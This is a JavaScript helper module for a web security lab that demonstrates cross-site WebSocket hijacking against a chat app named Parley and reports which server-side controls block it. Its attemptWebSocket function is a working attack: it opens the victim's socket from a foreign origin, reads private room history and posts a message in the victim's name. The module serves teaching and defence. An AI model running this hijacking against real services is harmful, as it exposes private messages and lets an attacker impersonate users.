// Shared by every lab page: the lab's configuration, the live feed of what Parley's
// server saw and decided (Server-Sent Events from the lab), and small DOM helpers.
// Everything is written with textContent: the attacker's pages follow the same
// no-HTML-strings rule as Parley itself.

/** { parleyOrigin, attackerOrigin, siblingOrigin, disabled: string[] } */
export const config = await (await fetch('/config.json')).json();
export const parleyWs = config.parleyOrigin.replace(/^https:/, 'wss:') + '/ws';

// ---- DOM helpers -------------------------------------------------------------

export function el(tag, options = {}, ...children) {
  const node = document.createElement(tag);
  if (options.className) node.className = options.className;
  if (options.text !== undefined) node.textContent = options.text;
  for (const [name, value] of Object.entries(options.attrs ?? {})) node.setAttribute(name, value);
  node.append(...children);
  return node;
}

export function byId(id) {
  const node = document.getElementById(id);
  if (!node) throw new Error(`#${id} is missing`);
  return node;
}

/** Fill every [data-fill="parleyOrigin"] (etc.) with that config value. */
function fillConfig() {
  for (const node of document.querySelectorAll('[data-fill]')) {
    const value = config[node.getAttribute('data-fill')];
    node.textContent = Array.isArray(value) ? value.join(', ') || 'none' : String(value);
  }
  for (const node of document.querySelectorAll('a[data-href]')) {
    node.href = config[node.getAttribute('data-href').split('+')[0]] + (node.getAttribute('data-href').split('+')[1] ?? '');
  }
  // "Why" panels: <p data-when-off="origin"> explains what happens with that control switched off,
  // <p data-when-on="origin"> what it does when it is on; each shows only when true of this run.
  for (const node of document.querySelectorAll('[data-when-off]')) node.hidden = !config.disabled.includes(node.getAttribute('data-when-off'));
  for (const node of document.querySelectorAll('[data-when-on]')) node.hidden = config.disabled.includes(node.getAttribute('data-when-on'));
  const banner = document.getElementById('disabled-banner');
  if (banner) {
    banner.hidden = config.disabled.length === 0;
    byId('disabled-list').textContent = config.disabled.join(', ');
  }
}
fillConfig();

/** A numbered step in the page's "What happened" list. */
export function step(text, className = '') {
  const item = el('li', { text, className });
  byId('steps').append(item);
  return item;
}

/**
 * The page's verdict, on #outcome: data-outcome="blocked" (the attack failed: the
 * control held) or "succeeded" (the attack worked: a control is switched off).
 */
export function verdict(outcome, text, target = byId('outcome')) {
  target.setAttribute('data-outcome', outcome);
  target.textContent = (outcome === 'blocked' ? 'Blocked: ' : outcome === 'succeeded' ? 'Attack succeeded: ' : '') + text;
}

// ---- the live feed -----------------------------------------------------------

const events = [];
let lastSeq = 0;
const waiters = new Set();

function describe(event) {
  const cookie = event.cookie ? 'session cookie SENT' : 'no session cookie';
  switch (event.kind) {
    case 'request':
      return `${event.method} ${event.path} → HTTP ${event.status} · Origin: ${event.origin ?? '(none)'} · Sec-Fetch-Site: ${event.fetchSite ?? '(none)'} · ${cookie}`;
    case 'upgrade':
      return `WebSocket handshake ${event.path} · Origin: ${event.origin ?? '(none)'} · ${cookie}`;
    case 'audit': {
      const { ip: _ip, ...fields } = event.fields;
      const detail = Object.entries(fields)
        .map(([key, value]) => `${key}=${value}`)
        .join(' ');
      return `audit log: ${event.event} ${detail}`;
    }
    case 'pwned':
      return `!!! beacon hit: a payload ran in the victim's browser (${event.via})`;
    default:
      return JSON.stringify(event);
  }
}

/** Parley's own pages talking to Parley are not part of the attack: leave them out of the log. */
function relevant(event) {
  if (event.kind === 'request' || event.kind === 'upgrade') {
    return event.origin !== config.parleyOrigin && event.fetchSite !== 'same-origin' && event.fetchSite !== 'none';
  }
  return true;
}

function show(event) {
  const log = document.getElementById('server-log');
  if (!log || !relevant(event)) return;
  log.append(el('li', { text: describe(event), className: `event event-${event.kind}${event.kind === 'pwned' ? ' alarm' : ''}` }));
}

/** Resolves once the feed is connected: run attacks only after this, or their events are missed. */
export const feedReady = new Promise((resolve) => {
  const source = new EventSource('/events');
  source.addEventListener('hello', (message) => {
    lastSeq = Math.max(lastSeq, JSON.parse(message.data).seq);
    resolve();
  });
  source.addEventListener('message', (message) => {
    const event = JSON.parse(message.data);
    events.push(event);
    lastSeq = event.seq;
    show(event);
    for (const waiter of waiters) waiter(event);
  });
});

/** The sequence number of the newest event: pass it to waitFor() to see only what follows. */
export function mark() {
  return lastSeq;
}

/** The first event after `after` matching `accept`, or null after timeoutMs. */
export function waitFor(accept, { after, timeoutMs = 8000 }) {
  const seen = events.find((event) => event.seq > after && accept(event));
  if (seen) return Promise.resolve(seen);
  return new Promise((resolve) => {
    const waiter = (event) => {
      if (event.seq <= after || !accept(event)) return;
      waiters.delete(waiter);
      clearTimeout(timer);
      resolve(event);
    };
    const timer = setTimeout(() => {
      waiters.delete(waiter);
      resolve(null);
    }, timeoutMs);
    waiters.add(waiter);
  });
}

/** Every event after `after` matching `accept` (already received). */
export function eventsSince(after, accept) {
  return events.filter((event) => event.seq > after && accept(event));
}

/** Call `listener` with every event from now on. */
export function onEvent(listener) {
  waiters.add(listener);
}

/** Enable the page's Run button once the feed is live. */
export async function armRunButton(run) {
  const button = byId('run');
  await feedReady;
  button.disabled = false;
  button.addEventListener('click', async () => {
    button.disabled = true;
    byId('steps').replaceChildren();
    const outcome = byId('outcome');
    outcome.removeAttribute('data-outcome');
    outcome.textContent = 'Running…';
    try {
      await run();
    } catch (error) {
      verdict('error', `the lab page failed: ${error instanceof Error ? error.message : String(error)}`);
    } finally {
      button.disabled = false;
    }
  });
}

// ---- the WebSocket attempt (cross-site WebSocket hijacking and the sibling page) ----

/**
 * Opens Parley's WebSocket from this page, exactly as any page on the web can. If the
 * handshake is accepted, the socket carries the victim's session: read their rooms and
 * the lobby history, and post a message in their name. Reports what the browser saw
 * and what Parley's server saw (the browser never tells a page why a handshake failed).
 */
export async function attemptWebSocket() {
  const since = mark();
  step(`This page's origin is ${location.origin}. Opening new WebSocket("${parleyWs}")…`);
  const result = await new Promise((resolve) => {
    const ws = new WebSocket(parleyWs);
    let opened = false;
    /** notes: the victim's messages read from their private rooms ({ room, user, text }). */
    const stolen = { user: null, rooms: [], messages: 0, posted: false, notes: [] };
    /** Rooms whose history has not arrived yet; the socket closes once they all have and the post is acked. */
    const waiting = new Set();
    const finish = (closeCode) => resolve({ opened, closeCode, stolen });
    const done = () => {
      if (stolen.posted && waiting.size === 0) ws.close(1000);
    };
    // Never hang the page on a frame that does not come.
    const timer = setTimeout(() => ws.close(1000), 10_000);
    ws.addEventListener('open', () => {
      opened = true;
      step('The handshake was ACCEPTED (101): this page now holds a live Parley socket.', 'bad');
    });
    ws.addEventListener('message', (message) => {
      const frame = JSON.parse(message.data);
      if (frame.type === 'rooms') {
        if (stolen.user !== null) return; // a later update of the list
        stolen.user = frame.user;
        stolen.rooms = frame.rooms.map((room) => room.name);
        step(`Parley says the socket belongs to "${frame.user}"; their rooms: ${stolen.rooms.join(', ')}.`, 'bad');
        for (const room of frame.rooms) {
          waiting.add(room.name);
          ws.send(JSON.stringify({ type: 'join', room: room.name }));
        }
      } else if (frame.type === 'history') {
        if (!waiting.delete(frame.room)) return;
        const room = frame.room;
        if (room === 'lobby') {
          stolen.messages = frame.messages.length;
          step(`Read ${frame.messages.length} lobby messages through it.`, 'bad');
          ws.send(
            JSON.stringify({ type: 'send', room: 'lobby', text: `Posted by ${location.origin} through a hijacked socket (CSWSH).`, clientId: 'lab-cswsh' }),
          );
        } else {
          const notes = frame.messages.map((m) => ({ room, user: m.user, text: textOf(m.html) }));
          stolen.notes.push(...notes);
          step(`Read the private room "${room}": ${notes.length} message(s) only its members should see.`, 'bad');
        }
        done();
      } else if (frame.type === 'ack' && frame.clientId === 'lab-cswsh') {
        stolen.posted = true;
        step(`Posted a message in the lobby as "${stolen.user}" (message id ${frame.id}).`, 'bad');
        done();
      }
    });
    ws.addEventListener('close', (event) => {
      clearTimeout(timer);
      finish(event.code);
    });
  });
  const upgrade = await waitFor((event) => event.kind === 'upgrade', { after: since, timeoutMs: 5000 });
  const decision = await waitFor((event) => event.kind === 'audit' && (event.event === 'upgrade_refused' || event.event === 'ws_open'), {
    after: since,
    timeoutMs: 5000,
  });
  if (upgrade) {
    step(
      `Parley's server saw the handshake with Origin ${upgrade.origin ?? '(none)'} ` +
        (upgrade.cookie ? "and the victim's session cookie (the browser attached it)." : 'and NO session cookie (the browser withheld it).'),
    );
  }
  const refused = decision?.event === 'upgrade_refused' ? decision.fields : null;
  if (!result.opened) {
    step(`The browser reported: error, then close code ${result.closeCode} (1006: no handshake). A page is never told the HTTP status.`);
    if (refused) step(`Parley answered HTTP ${refused.status} (${refused.reason}) — see the server log below.`);
  }
  return { ...result, upgrade, refused };
}

/** A message's text: Parley sends sanitized HTML; this page only ever shows text (parsed inert, never inserted). */
function textOf(html) {
  return new DOMParser().parseFromString(html, 'text/html').body.textContent ?? '';
}

/** What each upgrade refusal means, for the verdict text. */
export const REFUSAL_MEANING = {
  origin: "the Origin is not in Parley's exact allowlist",
  session: 'there was no valid session cookie on the handshake',
  throttled: 'too many refused handshakes from this address',
  cap: 'the victim already has the maximum number of sockets',
  path: 'wrong path',
};
